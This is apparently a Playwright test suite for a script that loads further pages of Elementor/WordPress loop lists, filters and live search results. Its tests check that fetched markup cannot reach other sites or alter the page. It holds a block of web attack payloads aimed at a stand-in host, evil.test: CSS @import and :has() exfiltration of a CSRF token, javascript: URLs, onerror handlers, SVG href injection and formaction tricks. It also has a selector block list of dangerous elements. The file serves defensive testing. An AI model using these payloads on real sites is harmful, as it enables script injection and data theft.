import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page, Route } from 'playwright/test'
import { expect, test } from '../harness'
import { loopsMounted } from '../loop/loop-site'

/**
 * Lists whose next page is an arbitrary file of the site. An author can write attributes, classes, ids and links into a page; anybody may be
 * able to upload a file.
 */
const EVIL = 'https://evil.test'
const settings = (pagination_type: string, more = {}) => `data-settings='${JSON.stringify({ pagination_type, ...more })}'`
const anchor = (next: string, max = '2', page = '1') =>
  `<div class="e-load-more-anchor" data-page="${page}" data-max-page="${max}" data-next-page="${next}"></div>`
const byHand = (items: string, after: string, type = 'load_more_on_click') =>
  `<div data-widget="posts" id="L" ${settings(type)}><ul data-loop-items>${items}</ul>${after}</div>`
const builders = (items: string, after: string, type = 'load_more_infinite_scroll', more = {}) =>
  `<div class="elementor-element elementor-element-l00p111 elementor-widget" data-id="l00p111" data-element_type="widget" data-widget_type="loop-grid.post" ${settings(type, more)}><div class="elementor-widget-container"><div class="elementor-loop-container">${items}</div>${after}</div></div>`
const item = (text: string, content = '') => `<div class="e-loop-item e-loop-item-${text.length}"><h2>${text}</h2>${content}</div>`

/** Markup that reaches another site, or changes the page around the list. */
const HOSTILE = `<style>@import "${EVIL}/import.css";html:has(input[value^=s3]) #bg{background:url(${EVIL}/leak-s3)}</style>
<style id="loop-dynamic-9">@import "${EVIL}/dynamic.css";body{display:none}</style><style id="loop-dynamic-8">@\\69mport "${EVIL}/hidden.css";</style>
<svg><style>#bg{background:url(${EVIL}/svg.css)}</style><use href="/uploads/evil.svg#x"></use><a href="#"><animate attributeName="href" values="javascript:xss()"></animate><set attributeName="xlink:href" to="javascript:xss()"></set></a></svg>
<link rel="stylesheet" href="${EVIL}/link.css"><link rel="preload" as="image" href="${EVIL}/preload"><link rel="dns-prefetch" href="//evil.test"><meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/base/">
<form id="f" action="${EVIL}/form" method="post"><input name="pw"><input name="attributes"><button id="go" formaction="${EVIL}/formaction">go</button><input type="image" formaction="${EVIL}/image" alt=""></form>
<button id="js" form="f" formaction="javascript:xss()">x</button>
<iframe src="${EVIL}/frame"></iframe><iframe src="/uploads/evil.svg"></iframe><iframe srcdoc="<p>x</p>"></iframe><iframe class="lazyload" data-src="${EVIL}/lazy"></iframe><iframe src="data:text/html,x"></iframe>
<object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><script>xss()</script><img src="x:" onerror="xss()" alt="">
<a id="ping" href="#x" ping="${EVIL}/ping" attributionsrc="${EVIL}/attribution">p</a><a href="java&#10;script:xss()">j</a>
<template><style>#bg{background:url(${EVIL}/template)}</style><img src="x:" onerror="xss()" alt=""></template><video poster="x:" onloadstart="xss()"></video><math><maction xlink:href="javascript:xss()">m</maction></math>`

interface Site {
  asked: string[]
  files: string[]
}
/** A page at `/own/`, without a policy that would help, and files of the site. Records every request to other sites. */
async function site(
  page: Page,
  body: string,
  files: (url: URL) => Parameters<Route['fulfill']>[0] | undefined,
  isReady: (page: Page) => Promise<unknown> = loopsMounted,
): Promise<Site> {
  const asked: string[] = []
  const seen: string[] = []
  page.on('request', (request) => {
    if (request.url().includes('evil.test')) asked.push(request.url())
  })
  await page.route(`${EVIL}/**`, (route) => route.fulfill({ contentType: 'text/css', body: '' }))
  await page.route(/\/(own|uploads)\//, (route) => {
    const url = new URL(route.request().url())
    const answer = route.request().isNavigationRequest() && route.request().frame() === page.mainFrame() ? undefined : files(url)
    if (answer) seen.push(url.pathname + url.search)
    return route.fulfill(
      answer ?? {
        contentType: 'text/html; charset=utf-8',
        body: `<!doctype html><html lang="en"><head><title>t</title><link rel="icon" href="data:,"><script defer src="/skerry.js"></script></head><body><input type="hidden" name="csrf" value="s3cret"><div id="bg"></div>${body}</body></html>`,
      },
    )
  })
  await page.addInitScript(() => Object.assign(window, { xss: () => Object.assign(window, { hasRun: true }) }))
  await page.goto('/own/')
  await isReady(page)
  return { asked, files: seen }
}
const html = (body: string, headers = {}) => ({ contentType: 'text/html; charset=utf-8', headers, body })
const text = (body: string) => ({ contentType: 'text/plain', headers: { 'x-content-type-options': 'nosniff' }, body })
/** Waits for every pending request and what follows from it. */
const settle = (page: Page) =>
  page.evaluate(async () => {
    for (let i = 0; i < 10; i++) await new Promise((done) => requestAnimationFrame(done))
  })

test('a list asks for no file that an attribute names', async ({ page, problems, each }) => {
  await each(
    [
      [
        'a hand-written list that has the builder’s attributes',
        byHand('<li data-loop-item>1</li>', anchor('/uploads/note.txt'), 'load_more_infinite_scroll'),
        undefined,
      ],
      ['a list of the builder’s', builders(item('one'), anchor('/uploads/note.txt')), undefined],
      ['a list of the builder’s, as a page,', builders(item('one'), anchor('/uploads/note.html')), undefined],
      [
        'a list of the builder’s whose item prints where it goes on',
        builders(item('one', anchor('/own/?e-page-l00p111=2')), ''),
        undefined,
      ],
    ] as const,
    ([what]) => `${what} asks for no file that an attribute names`,
    async ([, list, path]) => {
      const { asked, files } = await site(page, list, (url) =>
        url.pathname.startsWith('/uploads/') || url.search ? html(list + HOSTILE) : path,
      )
      await settle(page)
      expect(files).toEqual([])
      expect(asked).toEqual([])
      expect(problems('data-next-page: expected the address of this page’s page 2')).toEqual([])
    },
  )
})

test('a list takes only what is its own out of an answer', async ({ page, problems, each }) => {
  await each(
    [
      ['a text', text(byHand('<li data-loop-item>2</li>', ''))],
      ['a drawing', { contentType: 'image/svg+xml', body: byHand('<li data-loop-item>2</li>', '') }],
      ['a download', html(byHand('<li data-loop-item>2</li>', ''), { 'content-disposition': 'attachment; filename=x.html' })],
      [
        'a page that is to be shut in',
        html(byHand('<li data-loop-item>2</li>', ''), { 'content-security-policy': "default-src 'none'; sandbox" }),
      ],
      ['another kind of page', { contentType: 'application/xhtml+xml', body: byHand('<li data-loop-item>2</li>', '') }],
      ['a name that only begins like a page', { contentType: 'text/html-sandboxed', body: byHand('<li data-loop-item>2</li>', '') }],
    ] as const,
    ([what]) => `a list takes nothing out of ${what}`,
    async ([, answer]) => {
      const { files } = await site(page, byHand('<li data-loop-item>1</li>', '<a data-loop-more href="/uploads/note">More</a>'), (url) =>
        url.pathname === '/uploads/note' ? answer : undefined,
      )
      await page.getByRole('link', { name: 'More' }).click()
      await expect.poll(problems).toEqual([expect.stringMatching(/expected (a page|an answer of this site) from/)])
      expect(files).toEqual(['/uploads/note'])
      await expect(page.locator('[data-loop-item]')).toHaveText(['1'])
    },
  )
})

const BAD =
  'style,link:not(head>link),meta:not(head>*),base,object,embed,script:not(head>script),iframe[src],iframe[data-src],iframe[srcdoc],animate,set,use,[ping],[attributionsrc],[onerror],[onloadstart],[formaction],form[action]:not(.e-search-form),[href^=java i]'
const next = (shape: 'hand' | 'builder', content: string) =>
  shape === 'hand'
    ? byHand(`<li data-loop-item class="added"><h2>two</h2>${content}</li>`, '')
    : builders(`<div class="e-loop-item e-loop-item-2 added"><h2>two</h2>${content}</div>`, anchor('', '2', '2'))
test('nothing in a page that a list loads reaches another site, or the page around the list', async ({ page, problems, each }) => {
  await each(
    [
      ['a hand-written list appends', byHand('<li data-loop-item>1</li>', '<a data-loop-more href="/own/?2">More</a>'), 'hand'],
      [
        'a hand-written list shows in its place',
        `<div data-widget="posts" id="L" ${settings('numbers', { pagination_load_type: 'ajax' })}><ul data-loop-items><li data-loop-item>1</li></ul><a data-loop-page href="?2">More</a></div>`,
        'hand',
      ],
      [
        'the builder’s list appends',
        builders(
          item('one'),
          `${anchor('/own/?e-page-l00p111=2')}<a href="#" class="elementor-button" role="button">More</a>`,
          'load_more_on_click',
        ),
        'builder',
      ],
      [
        'the builder’s list shows in its place',
        builders(
          item('one'),
          `${anchor('/own/?e-page-l00p111=2')}<nav><a class="page-numbers" href="/own/?e-page-l00p111=2">More</a></nav>`,
          'numbers',
          { pagination_load_type: 'ajax' },
        ),
        'builder',
      ],
    ] as const,
    ([what]) => `nothing in a page that ${what} reaches another site, or the page around the list`,
    async ([, list, shape]) => {
      const { asked } = await site(page, list, (url) => (url.search ? html(next(shape, HOSTILE)) : undefined))
      await page.getByText('More').click()
      await expect(page.locator('.added')).toBeAttached()
      await settle(page)
      await expect(page.locator('.added h2')).toHaveText('two')
      await page.locator('#ping').click()
      expect(asked).toEqual([])
      expect(await page.locator(BAD).evaluateAll((all) => all.map((el) => el.outerHTML))).toEqual([])
      const inTemplate = await page.locator('template').evaluateAll((all) => all.map((el) => (el as HTMLTemplateElement).innerHTML).join())
      expect(inTemplate).not.toMatch(/onerror|<style/)
      expect(await page.evaluate(() => 'hasRun' in window)).toBe(false)
      // The picture without an address.
      expect(problems('ERR_UNKNOWN_URL_SCHEME')).toEqual([])
    },
  )
})

test('the next page may have whatever the served list has', async ({ page, problems }) => {
  const content = (n: number) =>
    `<style id="loop-dynamic-${n}">.e-loop-item h2{color:rgb(0,128,0)}</style><iframe src="${EVIL}/player/${n}"></iframe><form action="${EVIL}/subscribe/${n}"></form><form action="/own/cart"></form><svg><use href="/icons.svg#${n}"></use><use href="#local"></use></svg>`
  await page.route('**/icons.svg', (route) =>
    route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"></svg>' }),
  )
  await site(
    page,
    builders(
      item('one', content(1)),
      `${anchor('/own/?e-page-l00p111=2')}<a href="#" class="elementor-button" role="button">More</a>`,
      'load_more_on_click',
    ),
    (url) => (url.search.includes('e-page') ? html(next('builder', content(2))) : undefined),
  )
  await page.getByRole('button', { name: 'More' }).click()
  const added = page.locator('.added')
  await expect(added.locator('h2')).toHaveCSS('color', 'rgb(0, 128, 0)')
  expect(
    await added.evaluate((el) => [...el.querySelectorAll('iframe[src],form[action],use[href],style')].map((each) => each.localName)),
  ).toEqual(['style', 'iframe', 'form', 'form', 'use', 'use'])
  expect(problems()).toEqual([])
})

test('an endless list stops by itself', async ({ page, problems, each }) => {
  await each(
    [
      [
        'pages have no items',
        builders(item('one'), anchor('/own/?e-page-l00p111=2', '900000')),
        (n: number) => builders('', anchor(`/own/?e-page-l00p111=${n + 1}`, '900000', String(n))),
      ],
      [
        'number of pages is none',
        builders(item('one'), anchor('/own/?e-page-l00p111=2', '1e12')),
        (n: number) => builders(item('more'), anchor(`/own/?e-page-l00p111=${n + 1}`, '1e12', String(n))),
      ],
      [
        'pages are all the first one',
        builders(item('one'), anchor('/own/?e-page-l00p111=2', '900000')),
        () => builders(item('one'), anchor('/own/?e-page-l00p111=2', '900000')),
      ],
      [
        'links go round',
        byHand('<li data-loop-item>1</li>', '<a data-loop-more href="/own/?2">More</a>', 'load_more_infinite_scroll'),
        (n: number) => byHand('<li data-loop-item>x</li>', `<a data-loop-more href="/own/?${n === 2 ? 3 : 2}">More</a>`),
      ],
    ] as const,
    ([what]) => `a list whose ${what} stops by itself`,
    async ([what, list, answer]) => {
      const { files } = await site(page, list, (url) => (url.search ? html(answer(Number(/\d+$/.exec(url.search)?.[0]))) : undefined))
      await settle(page)
      const ends = what === 'number of pages is none' ? 0 : what === 'links go round' ? 2 : 1
      await expect.poll(() => files.length).toBe(ends)
      await expect(page.locator('.e-load-more-pagination-end')).toBeAttached()
      await settle(page)
      expect(files.length).toBe(ends)
      expect(problems()).toEqual([])
    },
  )
})

const filter = (base: string) =>
  `<div class="elementor-element" data-id="f1lt111" data-element_type="widget" data-widget_type="taxonomy-filter.default" data-settings='{"selected_element":"l00p111","taxonomy":"category"}'><div class="elementor-widget-container"><div class="e-filter" data-base-url="${base}" data-page-num="2"><button class="e-filter-item" data-filter="a" aria-pressed="false">a</button></div></div></div>`

test('the CMS’s route is trusted only if it answers with JSON', async ({ page, problems }) => {
  await page.route('**/wp-json/**', (route) =>
    route.fulfill({ contentType: 'text/plain', body: JSON.stringify({ data: '<div class="elementor-widget-container">taken</div>' }) }),
  )
  await site(page, filter('/own/') + builders(item('one'), '', 'numbers'), () => undefined)
  await page.getByRole('button', { name: 'a' }).click()
  await expect.poll(problems).toEqual([expect.stringMatching(/expected \{"data": "<div …>"\}/)])
  await expect(page.locator('.e-loop-item h2')).toHaveText('one')
})

test('a filter’s address is on this site, whatever its attribute says', async ({ page, problems }) => {
  const sent: string[] = []
  await page.route('**/wp-json/**', (route) => {
    sent.push(route.request().postDataJSON().pagination_base_url)
    return route.fulfill({ json: { data: '<div class="elementor-widget-container">taken</div>' } })
  })
  await site(page, filter(`${EVIL}/`) + builders(item('one'), '', 'numbers'), () => undefined)
  await page.getByRole('button', { name: 'a' }).click()
  await expect(page.getByText('taken')).toBeVisible()
  expect(sent).toEqual([page.url()])
  expect(problems()).toEqual([])
})

const liveSearch = `<div class="elementor" data-elementor-id="5"><div class="elementor-element elementor-widget elementor-widget-search" data-id="se1" data-element_type="widget" data-widget_type="search.default" data-settings='{"live_results":"yes","minimum_search_characters":2}'><search class="e-search hidden"><form class="e-search-form" action="/own"><div class="e-search-input-wrapper"><input class="e-search-input" type="search" name="s"><div class="e-search-results-container"><div class="e-search-results"></div></div></div></form></search></div></div>`
const searchMounted = (page: Page) => page.locator('search:not(.hidden)').waitFor()

test('nothing in live results reaches another site, or the page around them', async ({ page, problems }) => {
  const own = '<style id="loop-69">.found{color:rgb(0,128,0);background:url(/own/own.png)}</style>'
  const leaks = ['url(//evil.test/a)', 'url("/\t/evil.test/b")', 'url(https:evil.test/c)', 'image-set("https://evil.test/d" 1x)'].map(
    (image, i) => `<style id="loop-dynamic-${i}">html:has(input[value^=s3]) #bg{background:${image}}</style>`,
  )
  await page.route('**/refresh-search', (route) =>
    route.fulfill({ json: { data: `<p class="found">Found</p>${own}${leaks.join('')}${HOSTILE}`, pagination: HOSTILE } }),
  )
  const { asked } = await site(page, liveSearch, () => text(''), searchMounted)
  await page.getByRole('searchbox').fill('latarnia')
  await expect(page.getByText('Found')).toHaveCSS('color', 'rgb(0, 128, 0)')
  await settle(page)
  await page.locator('#ping').first().click()
  expect(asked).toEqual([])
  expect(await page.locator(BAD).evaluateAll((all) => all.map((el) => el.outerHTML))).toEqual([own])
  expect(await page.evaluate(() => 'hasRun' in window)).toBe(false)
  expect(problems('ERR_UNKNOWN_URL_SCHEME')).toEqual([])
})

test('no answer of another site is shown, although the site leads there and that site allows it', async ({ page, problems, each }) => {
  const data = '<div class="elementor-widget-container"><div class="elementor-loop-container"><p>Foreign</p></div></div>'
  const other = createServer((_, answer) =>
    answer
      .writeHead(200, { 'content-type': 'application/json', 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' })
      .end(JSON.stringify({ data })),
  )
  await new Promise<void>((done) => other.listen(0, done))
  const location = `http://127.0.0.1:${(other.address() as AddressInfo).port}/json`
  await each(
    [302, 307].flatMap((status) => [
      { status, what: 'a list', body: filter('/own/') + builders(item('one'), '', 'numbers') },
      { status, what: 'live results', body: liveSearch },
    ]),
    ({ status, what }) => `no answer of another site is shown: ${what}, ${status}`,
    async ({ status, what, body }) => {
      await page.route('**/wp-json/**', (route) => route.fulfill({ status, headers: { location } }))
      await site(page, body, () => undefined, what === 'a list' ? loopsMounted : searchMounted)
      await (what === 'a list' ? page.getByRole('button', { name: 'a' }).click() : page.getByRole('searchbox').fill('latarnia'))
      await expect.poll(() => problems('ERR_FAILED', 'CORS', 'Fetch API').join()).toMatch(/Skerry/)
      await expect(page.getByText('Foreign')).toHaveCount(0)
    },
  )
  other.close()
})

test('an uploaded file is no answer of the CMS’s route', async ({ page, problems }) => {
  await page.route('**/wp-json/**', (route) =>
    route.fulfill({
      json: { data: '<div class="elementor-widget-container">taken</div>' },
      headers: { 'content-disposition': 'attachment; filename=x.json' },
    }),
  )
  await site(page, filter('/own/') + builders(item('one'), '', 'numbers'), () => undefined)
  await page.getByRole('button', { name: 'a' }).click()
  await expect.poll(() => problems().join()).toMatch(/got a file/)
  await expect(page.locator('.e-loop-item h2')).toHaveText('one')
})
